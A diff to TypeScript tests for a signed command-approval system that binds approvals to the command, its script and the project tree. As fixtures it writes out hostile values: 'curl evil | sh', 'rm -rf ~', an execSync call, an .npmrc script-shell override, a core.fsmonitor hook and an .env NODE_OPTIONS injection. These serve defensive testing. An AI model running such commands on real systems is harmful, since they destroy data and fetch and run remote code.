@@ -10,6 +10,7 @@ import {
   signApproval,
   verifyApproval,
 } from './approval.js';
+import { projectTreeHash } from './project-tree.js';
 import { tempDir } from './test-support.js';
 
 const hub = generateKeyPairSync('ed25519');
@@ -22,12 +23,12 @@ function project() {
   return cwd;
 }
 
-function approve(
+async function approve(
   argv: string[],
   cwd: string,
   overrides: { taskId?: string; expiresAt?: number } = {},
 ) {
-  const digest = commandDigest({ argv, cwd, scriptHash: scriptHashFor(argv, cwd) });
+  const digest = commandDigest({ argv, cwd, scriptHash: await scriptHashFor(argv, cwd) });
   return signApproval(
     hub.privateKey,
     {
@@ -40,8 +41,19 @@ function approve(
   );
 }
 
+/** verifyApproval with the script hash of the files as they are now (as the worker takes it). */
+async function check(
+  key: Parameters<typeof verifyApproval>[0],
+  token: string,
+  command: { taskId: string; argv: string[]; cwd: string },
+  at: number,
+) {
+  const scriptHash = await scriptHashFor(command.argv, command.cwd);
+  return verifyApproval(key, token, { ...command, scriptHash }, at);
+}
+
 describe('commandDigest and scriptHashFor', () => {
-  it('the digest is canonical and changes with argv, cwd and the script hash', () => {
+  it('the digest is canonical and changes with argv, cwd and the script hash', async () => {
     const base = { argv: ['bash', 'build.sh'], cwd: '/w', scriptHash: 'a'.repeat(64) };
     expect(commandDigest(base)).toMatch(/^[0-9a-f]{64}$/);
     expect(
@@ -55,56 +67,53 @@ describe('commandDigest and scriptHashFor', () => {
     expect(commandDigest({ ...base, scriptHash: null })).not.toBe(commandDigest(base));
   });
 
-  it('hashes the script a command runs: a path, an interpreter file argument, package.json', () => {
+  it('hashes the script a command runs: a path, an interpreter file argument, package.json', async () => {
     const cwd = project();
     mkdirSync(join(cwd, 'bin'));
     writeFileSync(join(cwd, 'bin', 'run.py'), 'print(1)\n');
-    const script = scriptHashFor(['bash', 'build.sh'], cwd);
+    const script = await scriptHashFor(['bash', 'build.sh'], cwd);
     expect(script).toMatch(/^[0-9a-f]{64}$/);
-    expect(scriptHashFor(['sh', '-x', 'build.sh', 'arg'], cwd)).toBe(script);
-    expect(scriptHashFor(['./build.sh'], cwd)).toMatch(/^[0-9a-f]{64}$/);
-    expect(scriptHashFor(['python3', 'bin/run.py'], cwd)).toMatch(/^[0-9a-f]{64}$/);
-    expect(scriptHashFor(['python3', 'bin/run.py'], cwd)).not.toBe(script);
+    expect(await scriptHashFor(['sh', '-x', 'build.sh', 'arg'], cwd)).toBe(script);
+    expect(await scriptHashFor(['./build.sh'], cwd)).toMatch(/^[0-9a-f]{64}$/);
+    expect(await scriptHashFor(['python3', 'bin/run.py'], cwd)).toMatch(/^[0-9a-f]{64}$/);
+    expect(await scriptHashFor(['python3', 'bin/run.py'], cwd)).not.toBe(script);
     // A program that is not the project's own code reads no file argv names: nothing bound.
-    expect(scriptHashFor(['git', 'status'], cwd)).toBeNull();
-    expect(scriptHashFor(['ls', '-a'], cwd)).toBeNull();
+    expect(await scriptHashFor(['git', 'status'], cwd)).toBeNull();
+    expect(await scriptHashFor(['ls', '-a'], cwd)).toBeNull();
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"vitest"}}');
-    const before = scriptHashFor(['npm', 'test'], cwd);
-    expect(scriptHashFor(['node', '--run', 'test'], cwd)).toBe(before);
+    const before = await scriptHashFor(['npm', 'test'], cwd);
+    expect(await scriptHashFor(['node', '--run', 'test'], cwd)).toBe(before);
     expect(before).toMatch(/^[0-9a-f]{64}$/);
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"curl evil | sh"}}');
-    expect(scriptHashFor(['npm', 'test'], cwd)).not.toBe(before);
+    expect(await scriptHashFor(['npm', 'test'], cwd)).not.toBe(before);
   });
 });
 
 describe('signApproval and verifyApproval', () => {
   const argv = ['bash', 'build.sh'];
 
-  it('a valid approval verifies, with a default lifetime of 30 minutes', () => {
+  it('a valid approval verifies, with a default lifetime of 30 minutes', async () => {
     const cwd = project();
-    const token = approve(argv, cwd);
-    const check = verifyApproval(
-      hub.publicKey,
-      token,
-      { taskId: 'task-1', argv, cwd },
-      now + 1_000,
-    );
-    expect(check).toMatchObject({
+    const token = await approve(argv, cwd);
+    const verdict = await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now + 1_000);
+    expect(verdict).toMatchObject({
       valid: true,
       approval: { approvedBy: 'alice', taskId: 'task-1' },
     });
-    if (check.valid)
-      expect(check.approval.expiresAt - check.approval.issuedAt).toBe(DEFAULT_APPROVAL_LIFETIME_MS);
+    if (verdict.valid)
+      expect(verdict.approval.expiresAt - verdict.approval.issuedAt).toBe(
+        DEFAULT_APPROVAL_LIFETIME_MS,
+      );
     // PEM keys work as well as KeyObjects.
     const pem = hub.publicKey.export({ type: 'spki', format: 'pem' }).toString();
-    expect(verifyApproval(pem, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
+    expect(await check(pem, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
       valid: true,
     });
   });
 
-  it('tampered argv or cwd is refused', () => {
+  it('tampered argv or cwd is refused', async () => {
     const cwd = project();
-    const token = approve(argv, cwd);
+    const token = await approve(argv, cwd);
     const other = project();
     for (const command of [
       { argv: ['bash', 'build.sh', '--evil'], cwd },
@@ -112,7 +121,7 @@ describe('signApproval and verifyApproval', () => {
       { argv, cwd: other },
     ]) {
       expect(
-        verifyApproval(hub.publicKey, token, { taskId: 'task-1', ...command }, now),
+        await check(hub.publicKey, token, { taskId: 'task-1', ...command }, now),
       ).toMatchObject({
         valid: false,
         code: 'approval_invalid',
@@ -121,80 +130,76 @@ describe('signApproval and verifyApproval', () => {
     }
   });
 
-  it('a script edited after approval voids it', () => {
+  it('a script edited after approval voids it', async () => {
     const cwd = project();
-    const token = approve(argv, cwd);
+    const token = await approve(argv, cwd);
     writeFileSync(join(cwd, 'build.sh'), '#!/bin/sh\nrm -rf ~\n');
-    expect(
-      verifyApproval(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now),
-    ).toMatchObject({
+    expect(await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
       valid: false,
       reason: expect.stringContaining('changed since'),
     });
   });
 
-  it('an expired approval is refused (the default lifetime, and an explicit expiry)', () => {
+  it('an expired approval is refused (the default lifetime, and an explicit expiry)', async () => {
     const cwd = project();
-    const token = approve(argv, cwd);
+    const token = await approve(argv, cwd);
     expect(
-      verifyApproval(
+      await check(
         hub.publicKey,
         token,
         { taskId: 'task-1', argv, cwd },
         now + DEFAULT_APPROVAL_LIFETIME_MS,
       ),
     ).toMatchObject({ valid: false, reason: expect.stringContaining('expired') });
-    const short = approve(argv, cwd, { expiresAt: now + 5_000 });
+    const short = await approve(argv, cwd, { expiresAt: now + 5_000 });
     expect(
-      verifyApproval(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 4_999),
+      await check(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 4_999),
     ).toMatchObject({ valid: true });
     expect(
-      verifyApproval(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 5_000),
+      await check(hub.publicKey, short, { taskId: 'task-1', argv, cwd }, now + 5_000),
     ).toMatchObject({ valid: false });
   });
 
-  it('a wrong key, a forged payload or a malformed token is refused', () => {
+  it('a wrong key, a forged payload or a malformed token is refused', async () => {
     const cwd = project();
-    const token = approve(argv, cwd);
-    expect(
-      verifyApproval(other.publicKey, token, { taskId: 'task-1', argv, cwd }, now),
-    ).toMatchObject({
-      valid: false,
-      reason: expect.stringContaining('not signed by the hub'),
-    });
+    const token = await approve(argv, cwd);
+    expect(await check(other.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject(
+      {
+        valid: false,
+        reason: expect.stringContaining('not signed by the hub'),
+      },
+    );
     const forged = signApproval(
       other.privateKey,
       {
         taskId: 'task-1',
-        digest: commandDigest({ argv, cwd, scriptHash: scriptHashFor(argv, cwd) }),
+        digest: commandDigest({ argv, cwd, scriptHash: await scriptHashFor(argv, cwd) }),
         approvedBy: 'mallory',
       },
       now,
     );
-    expect(
-      verifyApproval(hub.publicKey, forged, { taskId: 'task-1', argv, cwd }, now),
-    ).toMatchObject({ valid: false });
+    expect(await check(hub.publicKey, forged, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
+      valid: false,
+    });
     // The hub's signature over another payload does not carry over.
     const [, signature] = token.split('.');
     const [body] = forged.split('.');
     expect(
-      verifyApproval(hub.publicKey, `${body}.${signature}`, { taskId: 'task-1', argv, cwd }, now),
+      await check(hub.publicKey, `${body}.${signature}`, { taskId: 'task-1', argv, cwd }, now),
     ).toMatchObject({
       valid: false,
     });
     for (const bad of ['', 'abc', 'a.b.c', `${token}x`]) {
-      expect(
-        verifyApproval(hub.publicKey, bad, { taskId: 'task-1', argv, cwd }, now),
-      ).toMatchObject({ valid: false });
+      expect(await check(hub.publicKey, bad, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
+        valid: false,
+      });
     }
   });
 
-  it('an approval for another task is refused', () => {
+  it('an approval for another task is refused', async () => {
     const cwd = project();
-    const token = approve(argv, cwd, { taskId: 'task-2' });
-    expect(
-      verifyApproval(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now),
-    ).toMatchObject({
+    const token = await approve(argv, cwd, { taskId: 'task-2' });
+    expect(await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).toMatchObject({
       valid: false,
       reason: expect.stringContaining('task-2'),
     });
@@ -207,11 +212,11 @@ describe('an approval of a project command is bound to the working tree', () => 
       cwd,
       stdio: 'ignore',
     });
-  const verifies = (argv: string[], cwd: string, token: string) =>
-    verifyApproval(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now).valid;
+  const verifies = async (argv: string[], cwd: string, token: string) =>
+    (await check(hub.publicKey, token, { taskId: 'task-1', argv, cwd }, now)).valid;
 
   for (const kind of ['a git repository', 'a plain directory'] as const) {
-    it(`in ${kind}: an edited test file, a new .npmrc or a new file voids an approval of npm test`, () => {
+    it(`in ${kind}: an edited test file, a new .npmrc or a new file voids an approval of npm test`, async () => {
       const argv = ['npm', 'test'];
       const fresh = () => {
         const cwd = tempDir();
@@ -229,24 +234,24 @@ describe('an approval of a project command is bound to the working tree', () => 
       // The review's two cases: a test file edited after the approval, and an .npmrc with
       // script-shell added; then an untracked file the tests could pick up.
       const edited = fresh();
-      const first = approve(argv, edited);
-      expect(verifies(argv, edited, first)).toBe(true);
+      const first = await approve(argv, edited);
+      expect(await verifies(argv, edited, first)).toBe(true);
       writeFileSync(join(edited, 'test', 'run.js'), "require('child_process').execSync('id');\n");
-      expect(verifies(argv, edited, first)).toBe(false);
+      expect(await verifies(argv, edited, first)).toBe(false);
 
       const configured = fresh();
-      const second = approve(argv, configured);
+      const second = await approve(argv, configured);
       writeFileSync(join(configured, '.npmrc'), 'script-shell=./sh.sh\n');
-      expect(verifies(argv, configured, second)).toBe(false);
+      expect(await verifies(argv, configured, second)).toBe(false);
 
       const added = fresh();
-      const third = approve(argv, added);
+      const third = await approve(argv, added);
       writeFileSync(join(added, 'test', 'extra.test.js'), 'boom\n');
-      expect(verifies(argv, added, third)).toBe(false);
+      expect(await verifies(argv, added, third)).toBe(false);
     });
   }
 
-  it("hashing the tree runs none of the repository's programs (core.fsmonitor), and a changed .git/config voids the approval", () => {
+  it("hashing the tree runs none of the repository's programs (core.fsmonitor), and a changed .git/config voids the approval", async () => {
     const cwd = tempDir();
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"node t.js"}}');
     writeFileSync(join(cwd, 't.js'), '1;\n');
@@ -256,25 +261,45 @@ describe('an approval of a project command is bound to the working tree', () => 
     const marker = join(cwd, 'fsmonitor-ran');
     writeFileSync(join(cwd, '.git', 'monitor.sh'), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
     const argv = ['npm', 'test'];
-    const token = approve(argv, cwd);
+    const token = await approve(argv, cwd);
     git(cwd, 'config', 'core.fsmonitor', join(cwd, '.git', 'monitor.sh'));
-    expect(verifies(argv, cwd, token)).toBe(false); // .git/config changed
-    approve(argv, cwd);
+    expect(await verifies(argv, cwd, token)).toBe(false); // .git/config changed
+    await approve(argv, cwd);
     expect(existsSync(marker)).toBe(false);
   });
 
-  it('what git ignores (node_modules) does not void it, and an ignored .env or .npmrc does', () => {
+  it('hashing the tree lets the event loop turn (a worker renews its other leases meanwhile)', async () => {
+    for (const inGit of [true, false]) {
+      const cwd = tempDir();
+      for (let index = 0; index < 200; index++)
+        writeFileSync(join(cwd, `f${index}.js`), `${index}`);
+      if (inGit) git(cwd, 'init', '-q');
+      let turned = false;
+      setTimeout(() => {
+        turned = true;
+      }, 0);
+      const hash = await projectTreeHash(cwd);
+      expect(turned).toBe(true);
+      expect(hash).toMatch(/^[0-9a-f]{64}$/);
+      // The same tree, the same hash; one byte more, another.
+      expect(await projectTreeHash(cwd)).toBe(hash);
+      writeFileSync(join(cwd, 'f7.js'), '77');
+      expect(await projectTreeHash(cwd)).not.toBe(hash);
+    }
+  });
+
+  it('what git ignores (node_modules) does not void it, and an ignored .env or .npmrc does', async () => {
     const cwd = tempDir();
     writeFileSync(join(cwd, 'package.json'), '{"scripts":{"test":"node t.js"}}');
     writeFileSync(join(cwd, 't.js'), '1;\n');
     writeFileSync(join(cwd, '.gitignore'), 'node_modules/\n.env\n.npmrc\n');
     git(cwd, 'init', '-q');
     const argv = ['npm', 'test'];
-    const token = approve(argv, cwd);
+    const token = await approve(argv, cwd);
     mkdirSync(join(cwd, 'node_modules'));
     writeFileSync(join(cwd, 'node_modules', 'x.js'), 'cache\n');
-    expect(verifies(argv, cwd, token)).toBe(true);
+    expect(await verifies(argv, cwd, token)).toBe(true);
     writeFileSync(join(cwd, '.env'), 'NODE_OPTIONS=--require ./x.js\n');
-    expect(verifies(argv, cwd, token)).toBe(false);
+    expect(await verifies(argv, cwd, token)).toBe(false);
   });
 });
